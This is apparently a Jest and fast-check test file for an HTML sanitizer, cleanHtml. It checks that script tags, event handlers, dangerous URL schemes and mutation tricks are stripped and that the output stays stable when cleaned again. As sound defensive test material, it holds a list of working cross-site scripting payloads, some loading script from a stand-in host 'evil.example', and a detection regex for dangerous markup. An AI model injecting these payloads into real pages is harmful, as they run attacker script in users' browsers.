import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { anyText } from '#testing';
import { cleanHtml } from './text.js';

/** Anything that could run, load or be submitted in the HTML that a browser would parse. */
const DANGEROUS =
  /<\s*\/?\s*(?:script|style|iframe|object|embed|form|input|button|svg|math|img|video|audio|link|meta|base|template|noscript|textarea|xmp|frameset|body|html)\b|<[^>]*\son\w+\s*=|<[^>]*(?:href|src|style|srcdoc|formaction|xlink:href)\s*=\s*["']?\s*(?:javascript|data|vbscript)/i;

const SCHEME = /^[\s\u0000-\u0020]*(?:javascript|data|vbscript|file):/i;
const RUNS = [
  'script',
  'style',
  'iframe',
  'object',
  'embed',
  'form',
  'input',
  'svg',
  'math',
  'base',
  'meta',
  'link',
  'template',
];

/** Known ways to run a script in foreign HTML. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img/src="x"/onerror=alert(1)//>',
  '<img src=`x`onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<style>@import "//evil.example";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,x"></object>',
  '<embed src="//evil.example/x.swf">',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

describe('cleanHtml', () => {
  it.each([
    ['<p>Plain <strong>text</strong></p>', '<p>Plain <strong>text</strong></p>'],
    ['Only text, 3 < 4 & 5 > 4', 'Only text, 3 &lt; 4 &amp; 5 &gt; 4'],
    ['  <p>Around</p>\n', '<p>Around</p>'],
    ['<h2>Tasks</h2><ul><li>One</li></ul>', '<h2>Tasks</h2><ul><li>One</li></ul>'],
    ['<table><tbody><tr><td>1</td></tr></tbody></table>', '<table><tbody><tr><td>1</td></tr></tbody></table>'],
    ['', ''],
  ])('keeps %j as %j', (html, clean) => {
    expect(cleanHtml(html)).toBe(clean);
  });

  it.each([
    ['<script>alert(1)</script>', ''],
    ['<scr<script>ipt>alert(1)</script>', 'ipt&gt;alert(1)'],
    ['<style>p { background: url(//evil.example) }</style><p>a</p>', '<p>a</p>'],
    ['<img src=x onerror=alert(1)>', ''],
    ['<svg/onload=alert(1)>', ''],
    ['<p onclick="alert(1)" style="position:fixed" class="x" id="y">a</p>', '<p>a</p>'],
    ['<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', ''],
    ['<form action="https://evil.example"><input name=a><button>Go</button></form>', 'Go'],
    ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<table></table>'],
    ['<!-- <img src=x> --><p>a</p>', '<p>a</p>'],
  ])('takes what could run or load out of %j', (html, clean) => {
    const cleaned = cleanHtml(html);
    expect(cleaned).not.toMatch(DANGEROUS);
    expect(cleaned).toBe(clean);
  });

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\nscript:alert(1)',
    'java&#x09;script:alert(1)',
    '&#106;avascript:alert(1)',
    '\u0001javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    'file:///etc/passwd',
  ])('takes the target %j from a link', (href) => {
    expect(cleanHtml(`<a href="${href}">x</a>`)).toBe('<a rel="nofollow noopener">x</a>');
  });

  it.each(['https://a.example/?b=1', 'http://a.example', 'mailto:a@b.example', 'tel:+431234'])(
    'keeps the link %s',
    (href) => {
      expect(cleanHtml(`<a href="${href}" target="_blank" rel="opener">x</a>`)).toBe(
        `<a href="${href}" rel="nofollow noopener">x</a>`,
      );
    },
  );

  it('leaves nothing dangerous in anything, and has nothing left to do the second time', () => {
    const hostile = fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '/',
      '=',
      ' ',
      '&',
      ';',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '\u0000',
      '\t',
      '`',
      'script',
      'style',
      'svg',
      'img',
      'iframe',
      'textarea',
      'xmp',
      'noscript',
      'math',
      'p',
      'a',
      'table',
      'template',
      'href',
      'src',
      'onerror',
      'onload',
      'srcdoc',
      'javascript:',
      'data:',
      'alert(1)',
      '&#x6a;',
      '&lt;',
      '&gt;',
      '&quot;',
    );
    fc.assert(
      fc.property(fc.array(hostile, { maxLength: 40 }), (parts) => {
        const once = cleanHtml(parts.join(''));
        expect(once).not.toMatch(DANGEROUS);
        expect(cleanHtml(once)).toBe(once);
      }),
      { numRuns: 2_000 },
    );
  });

  it('comes to the same for simple texts, which are not taken apart', () => {
    const mark = fc
      .tuple(fc.constantFrom('strong', 'em', 'u', 'sub'), fc.string())
      .map(([name, text]) => `<${name}>${text}</${name}>`);
    const text = fc
      .array(fc.oneof(anyText(), fc.constantFrom(' ', '"', "'", '\r\n', '\u00a0'), mark))
      .map((parts) => parts.join(''));
    const element = (names: readonly string[], content: fc.Arbitrary<string>) =>
      fc.tuple(fc.constantFrom(...names), content).map(([name, inner]) => `<${name}>${inner}</${name}>`);
    const block = fc.oneof(
      element(['p', 'h2', 'p'], text),
      element(
        ['ul', 'ol'],
        fc.array(element(['li'], text)).map((items) => items.join('\n')),
      ),
      // What must not count as simple.
      fc.constantFrom(
        '<p>',
        '</p>',
        '<br>',
        '<p/>',
        '<P>a</P>',
        '<p><p>a</p></p>',
        '<li>a</li>',
        '<b>a</b>',
        '<ul>a<p>b</p></ul>',
        '<div>a</div>',
      ),
      text,
    );
    fc.assert(
      fc.property(fc.array(block, { maxLength: 6 }), (blocks) => {
        const html = blocks.join('\n');
        // A script is dropped with its content, and makes the text one that is parsed.
        expect(cleanHtml(html)).toBe(cleanHtml(`<script></script>${html}`));
      }),
      { numRuns: 1000 },
    );
  });

  describe('with pictures', () => {
    const withPictures = (html: string) => cleanHtml(html, { images: true });

    it('keeps a picture and its caption', () => {
      const html =
        '<figure><img src="https://a.example/1.png" alt="A" width="3" loading="lazy" /><figcaption>One</figcaption></figure>';
      expect(withPictures(html)).toBe(html);
      expect(cleanHtml(html)).toBe('One');
    });

    it.each([
      [
        '<img src="https://a.example/1.png" onerror="alert(1)" style="x" srcset="y 2x">',
        '<img src="https://a.example/1.png" />',
      ],
      ['<img src="javascript:alert(1)">', '<img />'],
      ['<img src="data:image/svg+xml,<svg onload=alert(1)>">', '<img />'],
      ['<img src="//evil.example/1.png">', '<img src="//evil.example/1.png" />'],
      ['<a href="data:text/html,x"><img src=x></a>', '<a rel="nofollow noopener"><img src="x" /></a>'],
      ['<svg><image href="javascript:alert(1)"/></svg>', ''],
      ['<img src=x><script>alert(1)</script><iframe src="https://a.example"></iframe>', '<img src="x" />'],
    ])('takes what could run out of %j', (html, clean) => {
      expect(withPictures(html)).toBe(clean);
      expect(withPictures(clean)).toBe(clean);
    });

    it.each(VECTORS)('is parsed again without anything that runs or loads: %j', (html) => {
      for (const images of [false, true]) {
        const clean = cleanHtml(html, { images });
        expect(cleanHtml(clean, { images })).toBe(clean);
        const tags: string[] = [];
        const handlers: string[] = [];
        const parser = new Parser({
          onopentag(name, attributes) {
            tags.push(name);
            for (const [key, value] of Object.entries(attributes))
              if (/^on|^style$|^srcdoc$/.test(key) || (/^(?:href|src)$/.test(key) && SCHEME.test(value)))
                handlers.push(key);
          },
        });
        parser.end(clean);
        expect(handlers).toEqual([]);
        expect(tags.filter((name) => RUNS.includes(name) || (!images && name === 'img'))).toEqual([]);
      }
    });
  });
});
